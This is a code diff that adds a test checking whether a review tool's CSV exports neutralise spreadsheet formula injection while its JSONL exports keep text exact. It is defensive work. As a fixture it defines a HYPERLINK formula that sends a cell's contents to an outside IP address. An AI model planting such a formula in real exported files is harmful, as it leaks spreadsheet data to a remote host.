@@ -113,3 +113,41 @@ def test_cli_export_and_unknown_collection(filled: sa.Engine, db_url: str, tmp_p
     assert r.exit_code == 1 and "no collection named nope" in r.output
     r = CliRunner().invoke(app, ["export", "items", "-o", str(tmp_path / "a.txt"), "--db", db_url])
     assert r.exit_code == 2
+
+
+HOSTILE = '=HYPERLINK("https://203.0.113.9/?"&A1, "open")'
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(engine: sa.Engine, tmp_path: Path) -> None:
+    """A model output or a rationale that starts like a formula is text in every CSV (items,
+    annotations, gold); JSONL keeps it exactly."""
+    from sqlmodel import Session
+
+    from safereview.agreement.gold import create_snapshot, write
+
+    rows = [
+        {
+            "id": "@evil",
+            "prompt": "+SUM(1,2)",
+            "response": HOSTILE,
+            "annotations": [{"annotator": "amy", "labels": {"joint": "unsafe"}, "rationale": "-2+3"}],
+        }
+    ]
+    f = ds.write_jsonl(tmp_path / "h.jsonl", rows)
+    assert import_file(engine, f, collection="h", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
+    export_items(engine, tmp_path / "i.csv", "csv", collections=["h"])
+    export_annotations(engine, tmp_path / "a.csv", "csv", collections=["h"])
+    export_items(engine, tmp_path / "i.jsonl", "jsonl", collections=["h"])
+    with Session(engine) as s:
+        snap, table = create_snapshot(s, SYSTEM, ["h"])
+        write(table, tmp_path / "g.csv", "csv", snap)
+    items = pd.read_csv(tmp_path / "i.csv", dtype=str, keep_default_na=False)
+    anns = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
+    gold = pd.read_csv(tmp_path / "g.csv", dtype=str, keep_default_na=False)
+    assert items.loc[0, "response_text"] == "'" + HOSTILE and items.loc[0, "prompt_text"] == "'+SUM(1,2)"
+    assert items.loc[0, "external_id"] == "'@evil" and anns.loc[0, "rationale"] == "'-2+3"
+    assert gold.loc[0, "external_id"] == "'@evil"
+    for frame in (items, anns, gold):  # no text cell starts a formula
+        assert not frame.map(lambda v: str(v)[:1] in ("=", "+", "-", "@")).to_numpy().any()
+    exact = pd.read_json(tmp_path / "i.jsonl", lines=True)
+    assert exact.loc[0, "response_text"] == HOSTILE  # JSONL carries the text as it is
